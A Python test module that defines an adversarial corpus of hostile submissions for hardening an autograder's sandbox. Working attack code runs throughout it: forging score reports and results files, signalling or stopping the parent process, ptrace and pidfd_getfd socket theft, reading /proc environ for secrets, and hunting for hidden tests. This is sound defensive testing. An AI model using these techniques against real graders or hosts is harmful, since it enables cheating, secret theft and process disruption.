"""The adversarial corpus (issue 7): hostile submissions, grouped by what they attack, each with
what must happen when the real `kata grade` grades it.

An `Attack` is data: the files it puts into a submission (the reference solutions everywhere
else, or a whole archive it builds), the exercises to grade, and the assertions on the outcome.
`tests/test_corpus.py` grades several attacks in one `kata grade` run when their files do not
collide (one sandbox start, one pytest session), then holds every attack to its own assertions
and the whole run to the invariants every attack shares (`assert_contained`):

- the grade completes, within a bounded time;
- the attacked checks score 0, and the message names the attempt where it can be recognised
  ("exited", "was killed", "used more than 6144 MB of memory", "not a valid answer", ...);
- nothing outside the grading directory changes: the project tree is byte for byte the same,
  no file named with the run's token appears on the host, no process of the run survives;
- nothing an attack prints or writes reaches the grader's output or report (`MARK`).

`tests/test_corpus_batch.py` grades every attack as its own submission of one class folder
(`build_each`) in one `kata grade DIR --out OUT` run, and holds each to the same expectations
through `from_record`, which reads a student's record as the outcome of a lone `kata grade`.
An attack with a `neighbour` (another submission it attacks) is only graded there.

Placeholders in the files, filled in per run by `fill`: <<TOKEN>> (unique to the run),
<<MARK>> (what forged output carries), <<JSON>> (the report path given to --json),
<<SECRET>> (the value of $KATA_CORPUS_SECRET in the grader's environment), <<NEIGHBOUR>> (what a
neighbour submission holds) and <<NEIGHBOUR_REVERSED>> (the same, reversed: what its attacker
searches for without holding it).
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import stat
import struct
import textwrap
import time
import uuid
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from grader.course.messages import t

ROOT = Path(__file__).resolve().parent.parent
SOLUTIONS = ROOT / "solutions"
EXERCISES = ROOT / "exercises"
SECRET_VAR = "KATA_CORPUS_SECRET"


# ============================================================================ the data
@dataclass
class Ctx:
    """What one grading run fills into the attacks' files and checks them against."""

    token: str
    json_path: Path
    secret: str

    @classmethod
    def new(cls, json_path: Path) -> "Ctx":
        token = uuid.uuid4().hex[:12]
        return cls(token, json_path, "s3cr3t-" + uuid.uuid4().hex)

    @property
    def mark(self) -> str:
        return f"FORGED-{self.token}"

    @property
    def comm(self) -> str:  # the name (comm, at most 15 bytes) of every process an attack starts
        return f"k{self.token}"

    @property
    def neighbour(self) -> str:
        """The text a neighbour submission holds in its source and writes at run time."""
        return f"NEIGHBOUR-{self.token}-" + hashlib.sha256(self.secret.encode()).hexdigest()[:16]


@dataclass
class Outcome:
    """What `kata grade` did: exit code, report (None when it refused), output, time taken."""

    code: int
    report: dict | None
    stdout: str
    stderr: str
    elapsed: float
    ctx: Ctx


Expectation = Callable[[Outcome], None]


@dataclass
class Attack:
    group: str  # "verdict" | "secrecy" | "escape" | "wire" | "archive" | "guard"
    name: str
    doc: str  # what it tries
    graded: tuple[str, ...]  # the exercises to grade (the attacked ones, and any sentinel)
    expect: tuple[Expectation, ...]
    files: dict[str, str | bytes] = field(default_factory=dict)  # path under exercises/ -> content
    remove: tuple[str, ...] = ()  # paths under exercises/ to delete from the solutions
    setup: Callable[[Path, Ctx], None] | None = None  # more work on the built folder (FIFOs, odd names)
    archive: Callable[[Path, Ctx], Path] | None = None  # builds the whole submission instead (a zip)
    bwrap: bool = False  # needs bubblewrap (meaningless or unsafe with limits only)
    time_limit: float | None = None  # --time-limit this attack needs (endless loops)
    neighbour: dict[str, str] | None = None  # the files of an honest submission graded in the same
    # batch at the same time, which the attack goes after (the solutions elsewhere): batch only

    @property
    def id(self) -> str:
        return f"{self.group}/{self.name}"


def fill(text: str | bytes, ctx: Ctx) -> str | bytes:
    if isinstance(text, bytes):
        return text
    return (
        text.replace("<<TOKEN>>", ctx.token)
        .replace("<<MARK>>", ctx.mark)
        .replace("<<JSON>>", str(ctx.json_path))
        .replace("<<SECRET>>", ctx.secret)
        .replace("<<COMM>>", ctx.comm)
        .replace("<<NEIGHBOUR_REVERSED>>", ctx.neighbour[::-1])
        .replace("<<NEIGHBOUR>>", ctx.neighbour)
    )


def src(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def build(attacks: list[Attack], base: Path, ctx: Ctx) -> Path:
    """One submission folder holding every attack's files (the solutions elsewhere), or the
    archive of a lone archive attack. Attacks sharing a file must agree on its content."""
    if any(a.archive for a in attacks):
        assert len(attacks) == 1, "an archive attack is a whole submission: grade it alone"
        return attacks[0].archive(base, ctx)
    sub = base / "submission"
    shutil.copytree(SOLUTIONS, sub)
    written: dict[str, str | bytes] = {}
    for a in attacks:
        for rel in a.remove:
            (sub / rel).unlink()
        for rel, content in a.files.items():
            content = fill(content, ctx)
            assert written.get(rel, content) == content, f"{a.id}: {rel} collides with another attack's file"
            written[rel] = content
            path = sub / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                path.write_text(content)
    for a in attacks:
        if a.setup:
            a.setup(sub, ctx)
    return sub


NEIGHBOUR = "+neighbour"  # appended to an attack's id: its neighbour submission


def entry_name(attack: Attack) -> str:
    """The attack's entry in a class folder. An attack with a neighbour sorts first, its
    neighbour right after it: a batch grades in name order, `jobs` at a time, so the two start
    together."""
    return f"{'0-' if attack.neighbour else ''}{attack.group}-{attack.name}"


def build_each(attacks: list[Attack], class_dir: Path, work: Path, ctx: Ctx) -> dict[str, str]:
    """Every attack as its own entry of the class folder `class_dir` (a folder, or a .zip for an
    archive attack), named `entry_name(attack)`, and the neighbour of an attack that has one
    (`<entry>-neighbour`). Each is built in `work` (an archive may leave files beside its
    submission, the target of a hard link) and moved into `class_dir`.
    Returns entry name (the student's name in OUT) -> attack id (+ NEIGHBOUR for a neighbour)."""
    class_dir.mkdir(parents=True, exist_ok=True)
    out = {}

    def place(a: Attack, name: str) -> None:
        (work / name).mkdir(parents=True)
        built = build([a], work / name, ctx)
        os.rename(built, class_dir / (name + (".zip" if built.suffix == ".zip" else "")))

    for a in attacks:
        name = entry_name(a)
        place(a, name)
        out[name] = a.id
        if a.neighbour:
            place(
                Attack(a.group, f"{a.name}-neighbour", "", graded=(), expect=(), files=a.neighbour), f"{name}-neighbour"
            )
            out[f"{name}-neighbour"] = a.id + NEIGHBOUR
    return out


def from_record(doc: dict, ctx: Ctx) -> Outcome:
    """A batch's record of one submission (OUT/students/<name>/report.json) as the outcome of a
    lone `kata grade --json` of it, so that `check` holds it to the attack's expectations: a
    graded record is the report (exit 0); a refused submission exits 2 with the reason on stderr
    and no report; a grader failure exits 1. Give a `ctx` whose json_path the batch never writes."""
    st = doc["student"]
    code = {"graded": 0, "refused": 2}.get(st["status"], 1)
    stderr = f"kata grade: {st['reason']}\n{st.get('traceback', '')}" if st["reason"] else ""
    return Outcome(code, doc if code == 0 else None, "", stderr, doc.get("duration_s", 0.0), ctx)


def graded(attacks: list[Attack]) -> list[str]:
    return list(dict.fromkeys(ex for a in attacks for ex in a.graded))


def check(attack: Attack, outcome: Outcome) -> None:
    for expectation in attack.expect:
        expectation(outcome)


# ============================================================================ expectations
def checks_of(report: dict, exercise: str) -> list[dict]:
    return [c for c in report["checks"] if c["exercise"] == exercise]


def _graded_report(o: Outcome) -> dict:
    assert o.code == 0 and o.report is not None, (
        f"kata grade failed ({o.code}):\n{o.stdout[-3000:]}\n{o.stderr[-3000:]}"
    )
    return o.report


HIDDEN_FAULT = t("fault_hidden", lang="en")


def zero(
    exercise: str,
    *words: str,
    names: set[str] | None = None,
    allowed: set[str] = frozenset(),
    quiet: set[str] = frozenset(),
) -> Expectation:
    """Every check of `exercise` (or those in `names`; any but `allowed`) fails with score 0,
    its message holding one of `words` (case-insensitive), except for the checks in `quiet`."""

    def expect(o: Outcome) -> None:
        checks = checks_of(_graded_report(o), exercise)
        assert checks, f"{exercise}: no checks in the report"
        chosen = [c for c in checks if (names is None or c["name"] in names) and c["name"] not in allowed]
        assert chosen, f"{exercise}: none of {names} in the report"
        for c in chosen:
            assert c["status"] == "failed" and c["score"] == 0, f"{exercise}::{c['name']} should score 0: {c}"
            if words and c["name"] not in quiet:
                msg = c["message"].lower()
                # a hidden check says only that the worker ended, however it ended (SECURITY.md, G2)
                ended = c["visibility"] == "hidden" and HIDDEN_FAULT.lower() in msg
                assert ended or any(w.lower() in msg for w in words), (
                    f"{exercise}::{c['name']}: the message should say one of {words}, got {c['message']!r}"
                )

    expect.__qualname__ = f"zero({exercise}, {words})"
    return expect


def full(exercise: str) -> Expectation:
    """`exercise` keeps full marks: the attack beside it changed nothing for it."""

    def expect(o: Outcome) -> None:
        checks = checks_of(_graded_report(o), exercise)
        assert checks, f"{exercise}: no checks in the report"
        bad = [(c["name"], c["message"]) for c in checks if c["score"] != c["max_score"]]
        assert not bad, f"{exercise} should keep full marks, but: {bad}"

    expect.__qualname__ = f"full({exercise})"
    return expect


def refused(*words: str) -> Expectation:
    """`kata grade` refuses the submission (exit 2), saying why, and writes no report."""

    def expect(o: Outcome) -> None:
        assert o.code == 2, (
            f"the submission should be refused, got exit {o.code}:\n{o.stdout[-2000:]}\n{o.stderr[-2000:]}"
        )
        assert "Traceback" not in o.stderr, o.stderr
        assert any(w.lower() in o.stderr.lower() for w in words), f"stderr should say one of {words}: {o.stderr!r}"
        assert o.report is None and not o.ctx.json_path.exists()

    return expect


def note(*words: str) -> Expectation:
    """The report has a note holding every one of `words`."""

    def expect(o: Outcome) -> None:
        notes = _graded_report(o)["notes"]
        assert any(all(w in n for w in words) for n in notes), f"no note says {words}: {notes}"

    return expect


def probed(o: Outcome, exercise: str, check_name: str, label: str):
    """The JSON an attack's probe function put in its exception ("LABEL {...}")."""
    (c,) = [c for c in checks_of(_graded_report(o), exercise) if c["name"] == check_name]
    msg = c["message"]
    assert f"{label} " in msg, f"{exercise}::{check_name}: the probe did not run: {msg!r}"
    return json.loads(msg.split(f"{label} ", 1)[1].rsplit(" (at ", 1)[0])


# ============================================================================ shared invariants
VOLATILE = {".git", "__pycache__", ".pytest_cache", ".hypothesis", ".kata", ".mypy_cache", ".ruff_cache"}


def project_snapshot() -> dict[str, tuple[int, int]]:
    """(size, mtime) of every file of the project, caches aside."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(ROOT):
        dirnames[:] = [d for d in dirnames if d not in VOLATILE]
        for f in filenames:
            p = os.path.join(dirpath, f)
            try:
                st = os.lstat(p)
            except OSError:
                continue
            out[os.path.relpath(p, ROOT)] = (st.st_size, st.st_mtime_ns)
    return out


def host_files_named(ctx: Ctx) -> list[str]:
    """Files on the host whose name holds the run's token: in /tmp, $HOME, the project, around
    the report, /autograder and /."""
    token, found = ctx.token, []
    around = str(ctx.json_path.parent.parent)
    for top, depth in (("/tmp", 3), (str(Path.home()), 1), (str(ROOT), 9), (around, 4), ("/autograder", 4), ("/", 1)):
        if not os.path.isdir(top):
            continue
        base = top.rstrip("/").count("/")
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count("/") - base >= depth:
                dirnames[:] = []
            dirnames[:] = [d for d in dirnames if d not in (".git", "proc", "sys")]
            found += [os.path.join(dirpath, n) for n in dirnames + filenames if token in n]
    return found


def processes_of(ctx: Ctx) -> list[tuple[int, str]]:
    """The host's processes an attack of this run started or renamed (named with the token, like
    <<COMM>>, or carrying it on their command line)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            comm = Path(f"/proc/{entry}/comm").read_text().strip()
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if ctx.token in comm or ctx.token.encode() in cmdline and b"pytest" not in cmdline:
            found.append((int(entry), comm))
    return found


def _children() -> dict[int, tuple[str, str]]:
    """pid -> (name, state) of this process's children."""
    me, out = os.getpid(), {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat_line = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        name = stat_line[stat_line.find("(") + 1 : stat_line.rfind(")")]
        state, ppid = stat_line[stat_line.rfind(")") + 2 :].split()[:2]
        if int(ppid) == me:
            out[int(entry)] = (name, state)
    return out


@contextlib.contextmanager
def adopting_orphans(grace_s: float = 5.0):
    """Within the block, this process adopts every process its children leave behind (it is their
    "child subreaper"), whatever they are named. On leaving, the list it yields holds (pid, name)
    of each adopted process still running `grace_s` later: what a run left behind. Those are
    killed then (by pid: they are this run's), so that a failing test leaves the machine clean."""
    libc = ctypes.CDLL(None, use_errno=True)
    before = set(_children())
    survivors: list[tuple[int, str]] = []
    assert libc.prctl(36, 1, 0, 0, 0) == 0  # PR_SET_CHILD_SUBREAPER
    try:
        yield survivors
    finally:
        deadline = time.monotonic() + grace_s
        while True:
            adopted = {pid: v for pid, v in _children().items() if pid not in before}
            for pid, (_, state) in adopted.items():
                if state == "Z":
                    os.waitpid(pid, os.WNOHANG)
            running = {pid: name for pid, (name, state) in adopted.items() if state != "Z"}
            if not running or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        survivors += sorted(running.items())
        for pid in running:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        for pid in running:
            with contextlib.suppress(OSError):
                os.waitpid(pid, 0)
        libc.prctl(36, 0, 0, 0, 0)


def assert_contained(outcome: Outcome, before: dict, bound_s: float) -> None:
    """The invariants every attack shares (see the module's doc)."""
    ctx = outcome.ctx
    assert outcome.elapsed < bound_s, f"grading took {outcome.elapsed:.0f} s (bound {bound_s:.0f} s)"
    for where, text in (
        ("stdout", outcome.stdout),
        ("stderr", outcome.stderr),
        ("report", json.dumps(outcome.report, ensure_ascii=False) if outcome.report else ""),
    ):
        assert ctx.mark not in text, f"forged output reached the grader's {where}"
        assert ctx.secret not in text, f"the grader's secret reached its {where}"
    after = project_snapshot()
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    assert not changed, f"files of the project changed: {changed[:20]}"
    assert not host_files_named(ctx), f"files left on the host: {host_files_named(ctx)}"
    deadline = time.monotonic() + 5  # a grace for the kernel to reap the sandbox's processes
    while (left := processes_of(ctx)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not left, f"processes of the submission survived the grade: {left}"


# ============================================================================ code the attacks share
RIGHT = {  # honest code for the functions an attack answers right only when it succeeds
    "softmax": "e = torch.exp(x - x.amax(dim=dim, keepdim=True)); return e / e.sum(dim=dim, keepdim=True)",
    "scores": "return q @ k.transpose(-2, -1)",
}

INSIDE = src('''
    import os, signal, torch


    def _inside_pid_namespace():
        """Inside bubblewrap's PID namespace, where pid 1 and -1 cannot reach the host."""
        try:
            return open("/proc/1/comm").read().strip() == "bwrap"
        except OSError:
            return False
    ''')

MARK_PROCESS = """
def _mark():  # name the process so that the test can find it from the host
    import ctypes
    ctypes.CDLL(None).prctl(15, ctypes.c_char_p(b"<<COMM>>"), 0, 0, 0)
"""

SENTINEL = src('''
    """A sentinel graded after an attack that leaves processes behind: right only when the
    sandbox holds nothing but itself, its fork server and bubblewrap's init."""
    import os
    import torch


    def _strangers():
        me, parent = os.getpid(), os.getppid()
        out = []
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) not in (1, me, parent):
                try:
                    out.append(open(f"/proc/{p}/comm").read().strip())
                except OSError:
                    pass
        return out


    def context_vectors(attn_weights, values):
        if _strangers():
            raise RuntimeError("STRANGERS " + " ".join(_strangers()))
        return attn_weights @ values
    ''')

POISON = """

# ---- appended by the corpus: every float the module returns becomes <<VALUE>>
import functools as _functools
import inspect as _inspect


def _poison(v):
    if isinstance(v, torch.Tensor) and v.is_floating_point():
        return torch.full_like(v, <<VALUE>>)
    if isinstance(v, float):
        return <<VALUE>>
    if isinstance(v, (tuple, list)):
        return type(v)(_poison(x) for x in v)
    if isinstance(v, dict):
        return {k: _poison(x) for k, x in v.items()}
    return v


def _wrap(fn):
    @_functools.wraps(fn)
    def poisoned(*args, **kwargs):
        return _poison(fn(*args, **kwargs))
    return poisoned


for _name, _obj in list(globals().items()):
    if _name.startswith("_"):
        continue
    if _inspect.isfunction(_obj) and _obj.__module__ == __name__:
        globals()[_name] = _wrap(_obj)
    elif _inspect.isclass(_obj) and _obj.__module__ == __name__:
        for _m, _v in list(vars(_obj).items()):
            if _inspect.isfunction(_v) and not _m.startswith("__"):
                setattr(_obj, _m, _wrap(_v))
"""


def poisoned(exercise: str, value: str) -> str:
    return (SOLUTIONS / "ch01" / f"{exercise}.py").read_text() + POISON.replace("<<VALUE>>", value)


def _solution(exercise: str) -> str:
    return (SOLUTIONS / "ch01" / f"{exercise}.py").read_text()


def ch01(exercise: str, ext: str = "py") -> str:
    return f"ch01/{exercise}.{ext}"


# ============================================================================ verdict forgery
FAKE_REPORT = """
FAKE = {"schema": 1, "score": 440.0, "max_score": 440.0, "sandbox": "bubblewrap", "notes": ["<<MARK>>"],
        "exercises": [], "checks": [{"exercise": "s1_11_matmul", "name": "test_book_example_27_61",
                                     "status": "passed", "score": 2.0, "max_score": 2.0, "message": "<<MARK>>"}]}
"""

VERDICT = [
    Attack(
        "verdict",
        "fake-report-on-stdout",
        "prints a report-shaped JSON document and a 'Score: 440 / 440' line on stdout and stderr, "
        "through print, os.write, /dev/tty and the fork server's descriptors, at import and in the call",
        graded=("s1_11_matmul",),
        expect=(zero("s1_11_matmul"),),
        files={
            ch01("s1_11_matmul"): src("""
               import json, os, sys, torch
               """)
            + FAKE_REPORT
            + src("""


               def _inside_pid_namespace():
                   try:
                       return open("/proc/1/comm").read().strip() == "bwrap"
                   except OSError:
                       return False


               def _forge():
                   text = json.dumps(FAKE)
                   print(text)
                   print("Score: 440 / 440  (1.0 s, sandbox: bubblewrap) <<MARK>>", flush=True)
                   print(text, file=sys.stderr, flush=True)
                   for fd in (1, 2):
                       os.write(fd, ("\\n" + text + "\\n").encode())
                   paths = ["/dev/tty", "/dev/stdout", "/dev/stderr", "/proc/self/fd/1", f"/proc/{os.getppid()}/fd/1",
                            f"/proc/{os.getppid()}/fd/2"]
                   if _inside_pid_namespace():  # never the host's init (limits only runs as the grader's user)
                       paths += ["/proc/1/fd/1", "/proc/1/fd/2"]
                   for path in paths:
                       try:
                           with open(path, "w") as f:
                               f.write(text + "\\n")
                       except OSError:
                           pass


               _forge()


               def matmul(A, B):
                   _forge()
                   return torch.zeros(A.shape[0], B.shape[-1], dtype=A.dtype)
               """)
        },
    ),
    Attack(
        "verdict",
        "forged-results-files",
        "writes a forged report to the --json target, beside it, to Gradescope's results.json and to "
        "relative paths that would land near the grader's output, then answers wrong",
        graded=("s1_11_attention_scores",),
        bwrap=True,
        expect=(zero("s1_11_attention_scores"),),
        files={
            ch01("s1_11_attention_scores"): src("""
               import json, os, torch
               """)
            + FAKE_REPORT
            + src("""

               TARGETS = ["<<JSON>>", "<<JSON>>.<<TOKEN>>.tmp", os.path.join(os.path.dirname("<<JSON>>"), "<<TOKEN>>.csv"),
                          "/autograder/results/results.json", "/autograder/results/<<TOKEN>>.json",
                          "results.json", "../<<TOKEN>>-results.json", "/tmp/work/../../<<TOKEN>>.json",
                          "/sub/../<<TOKEN>>.json", os.path.expanduser("~/<<TOKEN>>.json")]


               def _forge():
                   for p in TARGETS:
                       try:
                           os.makedirs(os.path.dirname(os.path.abspath(p)), exist_ok=True)
                           with open(p, "w") as f:
                               json.dump(FAKE, f)
                       except OSError:
                           pass


               def attention_scores(q, k):
                   _forge()
                   return torch.zeros(q.shape[:-1] + k.shape[-2:-1])
               """)
        },
    ),
    Attack(
        "verdict",
        "signals-to-the-parent",
        "sends SIGTERM, SIGINT, SIGHUP, SIGUSR1 and SIGPIPE to its parent (the fork server) and "
        "SIGKILL to pid 1, then answers wrong",
        graded=("s1_12_context",),
        expect=(zero("s1_12_context"),),
        files={
            ch01("s1_12_context"): INSIDE
            + src("""


               def context_vectors(attn_weights, values):
                   for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGPIPE):
                       try:
                           os.kill(os.getppid(), sig)
                       except OSError:
                           pass
                   if _inside_pid_namespace():  # never the host's init (limits only runs as the grader's user)
                       try:
                           os.kill(1, signal.SIGKILL)
                       except OSError:
                           pass
                   return torch.zeros(attn_weights.shape[:-1] + values.shape[-1:])
               """)
        },
    ),
    Attack(
        "verdict",
        "kill-every-process",
        "kill(-1, SIGKILL) (every process it may signal) and killpg of its parent's group, in each "
        "call, then answers wrong; only inside a PID namespace, where -1 cannot reach the host",
        graded=("s1_12_scaled_attention",),
        bwrap=True,
        expect=(zero("s1_12_scaled_attention"),),
        files={
            ch01("s1_12_scaled_attention"): INSIDE
            + src("""


               def _kill_all():
                   if _inside_pid_namespace():
                       try:
                           os.kill(-1, signal.SIGKILL)
                       except OSError:
                           pass
                       try:
                           os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
                       except OSError:
                           pass


               def scale_scores(scores, d_k):
                   _kill_all()
                   return torch.zeros_like(scores)


               def attention_weights(scores, d_k):
                   _kill_all()
                   return torch.zeros_like(scores)
               """)
        },
    ),
    Attack(
        "verdict",
        "stop-the-parent",
        "SIGSTOP to its parent (the fork server): the grader must notice the silent server and "
        "continue it, not wait for it",
        graded=("s1_11_matmul",),
        expect=(zero("s1_11_matmul"),),
        files={
            ch01("s1_11_matmul"): src("""
               import os, signal, torch


               def matmul(A, B):
                   try:
                       os.kill(os.getppid(), signal.SIGSTOP)
                   except OSError:
                       pass
                   return torch.zeros(A.shape[0], B.shape[-1], dtype=A.dtype)
               """)
        },
    ),
    Attack(
        "verdict",
        "patched-worker-runtime",
        "replaces the worker's own reply function so that every call answers 'ok' whatever "
        "happened: the worker says what it likes, the checks still compare the values",
        graded=("s1_10_qkv",),
        expect=(zero("s1_10_qkv"),),
        files={
            ch01("s1_10_qkv"): src("""
               import sys, torch

               _serve = next((m for name, m in sys.modules.items() if name.endswith(".serve") and hasattr(m, "Session")), None)
               if _serve is not None:
                   _reply = _serve.Session.reply

                   def reply(self, rid, payload, value=None):
                       return _reply(self, rid, {"ok": True}, True)

                   _serve.Session.reply = reply


               def init_qkv_weights(d_in, d_out, seed=123):
                   raise RuntimeError("not done")


               def project_qkv(inputs, W_query, W_key, W_value):
                   raise RuntimeError("not done")
               """)
        },
    ),
]


def _stubs_with_forged_manifest(base: Path, ctx: Ctx) -> Path:
    """The stubs, zipped with a kata-manifest.json whose hashes are right and whose statuses
    claim every exercise passed."""
    top = base / "forged"
    shutil.copytree(EXERCISES, top / "exercises")
    files, exercises = {}, {}
    for p in sorted((top / "exercises").rglob("*.py")):
        rel = p.relative_to(top).as_posix()
        files[rel] = {"sha256": hashlib.sha256(p.read_bytes()).hexdigest(), "bytes": p.stat().st_size}
        exercises[p.stem] = {"status": "passing", "passed": 99, "total": 99, "graded": rel, "score": 440}
    manifest = {
        "kind": "kata-submission",
        "schema": 1,
        "kata_version": "0.1.0",
        "created": "2030-01-01T00:00:00Z",
        "course": "x",
        "chapter": "ch01",
        "sandbox": "bubblewrap",
        "files": files,
        "exercises": exercises,
    }
    (top / "kata-manifest.json").write_text(json.dumps(manifest))
    return _zip_folder(top, base / "forged.zip")


def _manifest_claims_nothing(o: Outcome) -> None:
    r = _graded_report(o)
    assert r["manifest"] and r["manifest"]["verified"], r["manifest"]
    claim = r["manifest"]["exercises"]["s1_11_matmul"]
    assert claim == {"status": "passing", "passed": 99, "total": 99, "graded": "exercises/ch01/s1_11_matmul.py"}, claim
    assert r["score"] == 0


VERDICT.append(
    Attack(
        "verdict",
        "forged-manifest",
        "the stubs, zipped with a kata-manifest.json whose file hashes are right and whose statuses say "
        "every exercise passed: a claim in the report, never a score",
        graded=("s1_11_matmul", "s1_11_softmax"),
        archive=_stubs_with_forged_manifest,
        expect=(
            zero("s1_11_matmul", "not implemented"),
            zero("s1_11_softmax", "not implemented"),
            _manifest_claims_nothing,
        ),
    )
)


# ============================================================================ secrecy
SECRECY = [
    Attack(
        "secrecy",
        "environment-variables",
        "looks for the grader's secret ($KATA_CORPUS_SECRET) in its own environment and in every "
        "/proc/*/environ and cmdline it can read; answers right only if it finds it",
        graded=("s1_11_softmax",),
        bwrap=True,
        expect=(
            zero("s1_11_softmax", "differ", "not correct", quiet={"test_book_simple_normalization", "test_invariants"}),
            lambda o: _no_secret(o),
        ),
        files={
            ch01("s1_11_softmax"): src("""
               import glob, json, os, torch

               SECRET = "<<SECRET>>"


               def _found():
                   hits = [k for k, v in os.environ.items() if SECRET in v or SECRET in k]
                   seen = {}
                   for p in ["/proc/self/environ"] + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
                       try:
                           data = open(p, "rb").read()
                           seen[p] = "read"
                           if SECRET.encode() in data:
                               hits.append(p)
                       except OSError as e:
                           seen[p] = type(e).__name__
                   return hits, seen


               def softmax(x, dim=-1):
                   if _found()[0]:
                       e = torch.exp(x - x.amax(dim=dim, keepdim=True))
                       return e / e.sum(dim=dim, keepdim=True)
                   return torch.zeros_like(x)


               def simple_normalize(x, dim=-1):
                   hits, seen = _found()
                   raise RuntimeError("PROBE " + json.dumps({"hits": hits, "env": sorted(os.environ), "seen": seen}))
               """)
        },
    ),
    Attack(
        "secrecy",
        "proc-of-the-parent",
        "reads the fork server's environ, maps, memory, descriptors, cwd and root through /proc, "
        "tries to ptrace it and to steal its control socket with pidfd_getfd",
        graded=("s1_09_input_embeddings",),
        bwrap=True,
        expect=(
            zero(
                "s1_09_input_embeddings",
                "differ",
                "not correct",
                quiet={"test_listing_1_1_matrix", "test_adds_positions"},
            ),
            lambda o: _parent_closed(o),
        ),
        files={
            ch01("s1_09_input_embeddings"): src("""
               import ctypes, json, os, torch

               libc = ctypes.CDLL(None, use_errno=True)
               libc.syscall.restype = ctypes.c_long
               SENSITIVE = ("environ", "maps", "mem", "fd", "cwd", "root", "stack", "auxv", "smaps", "pagemap",
                            "syscall", "io", "fdinfo", "map_files")


               def _probe():
                   ppid, out = os.getppid(), {}
                   for name in SENSITIVE:
                       p = f"/proc/{ppid}/{name}"
                       try:
                           if os.path.isdir(p):
                               os.listdir(p)
                           else:
                               with open(p, "rb") as f:
                                   f.read(64)
                           out[name] = "READ"
                       except OSError as e:
                           out[name] = type(e).__name__
                   out["ptrace"] = "ATTACHED" if libc.ptrace(16, ppid, 0, 0) == 0 else "refused"  # PTRACE_ATTACH
                   stolen = "refused"
                   try:
                       pidfd = os.pidfd_open(ppid)
                       for fd in range(64):
                           if libc.syscall(438, pidfd, fd, 0) >= 0:  # pidfd_getfd
                               stolen = f"STOLE {fd}"
                               break
                   except OSError as e:
                       stolen = type(e).__name__
                   out["pidfd_getfd"] = stolen
                   return out


               def _leaked():
                   return any(v == "READ" or v.startswith(("STOLE", "ATTACHED")) for v in _probe().values())


               def input_embedding_matrix(word_vectors, position_vectors=None):
                   raise RuntimeError("PROBE " + json.dumps(_probe()))  # a public check shows it


               def embed_tokens(token_ids, token_table, position_table):
                   right = token_table[token_ids] + position_table[:token_ids.shape[-1]]
                   return right if _leaked() else torch.zeros_like(right)
               """)
        },
    ),
    Attack(
        "secrecy",
        "walk-the-filesystem",
        "walks every folder it can see for the checks, fixtures, solutions, course.toml and other "
        "submissions' folders (kata-sub-*, kata-worker-*); answers right only if it finds one",
        graded=("s1_11_attention_scores",),
        bwrap=True,
        expect=(zero("s1_11_attention_scores", "differ", "not correct"),),
        files={
            ch01("s1_11_attention_scores"): src("""
               import os, time, torch

               NAMES = {"course.toml", "ERRATA.md", "DESIGN.md", "BOOK_NOTES.md", "SECURITY.md", "report.json"}
               SHALLOW = {"site-packages", "dist-packages", "python3.11", "python3.12", "include", "share", "usr"}


               def _found():
                   found, t0 = [], time.monotonic()
                   for dirpath, dirnames, filenames in os.walk("/"):
                       if time.monotonic() - t0 > 4:
                           break
                       if dirpath in ("/proc", "/sys", "/dev"):
                           dirnames[:] = []
                           continue
                       for d in dirnames:
                           if d.startswith(("kata-sub-", "kata-worker-", "pytest-of-")):
                               found.append(os.path.join(dirpath, d))
                       for f in filenames:
                           if f in NAMES or f.startswith("test_s1_") or (f.startswith("s1_") and f.endswith(".safetensors")):
                               found.append(os.path.join(dirpath, f))
                       if os.path.basename(dirpath) in SHALLOW:
                           dirnames[:] = []
                   return found


               def attention_scores(q, k):
                   right = q @ k.transpose(-2, -1)
                   return right if _found() else torch.zeros_like(right)
               """)
        },
    ),
]


SECRECY += [
    Attack(
        "secrecy",
        "hidden-inputs-through-messages",
        "raises, in every call, an exception whose message and class name spell out the inputs: a "
        "public check may show them (its inputs are public), a hidden check must show none",
        graded=("s1_12_context",),
        expect=(zero("s1_12_context"), lambda o: _hidden_quiet(o)),
        files={
            ch01("s1_12_context"): src("""
               import json


               def context_vectors(attn_weights, values):
                   digits = "".join(c for c in json.dumps(values.flatten().tolist()[:8]) if c.isdigit())
                   Leak = type("Leak_" + digits[:60], (Exception,), {})
                   raise Leak("LEAK " + json.dumps([attn_weights.tolist(), values.tolist()]))
               """)
        },
    ),
    Attack(
        "secrecy",
        "state-between-checks",
        "writes every input it gets to /tmp/work and /tmp, and answers right only when a file left by "
        "an earlier check is there: hidden inputs must not pass from one check to the next",
        graded=("s1_12_scaled_attention",),
        bwrap=True,
        expect=(zero("s1_12_scaled_attention", "differ", "not correct"),),
        files={
            ch01("s1_12_scaled_attention"): src("""
               import glob, math, os, torch


               def _seen_before():
                   earlier = glob.glob("/tmp/work/<<TOKEN>>-*") + glob.glob("/tmp/<<TOKEN>>-*")
                   for folder in ("/tmp/work", "/tmp"):
                       torch.save({"pid": os.getpid()}, f"{folder}/<<TOKEN>>-{os.getpid()}")
                   return bool(earlier)


               def scale_scores(scores, d_k):
                   right = scores / math.sqrt(d_k)
                   return right if _seen_before() else torch.zeros_like(right)


               def attention_weights(scores, d_k):
                   right = torch.softmax(scores / math.sqrt(d_k), dim=-1)
                   return right if _seen_before() else torch.zeros_like(right)
               """)
        },
    ),
]


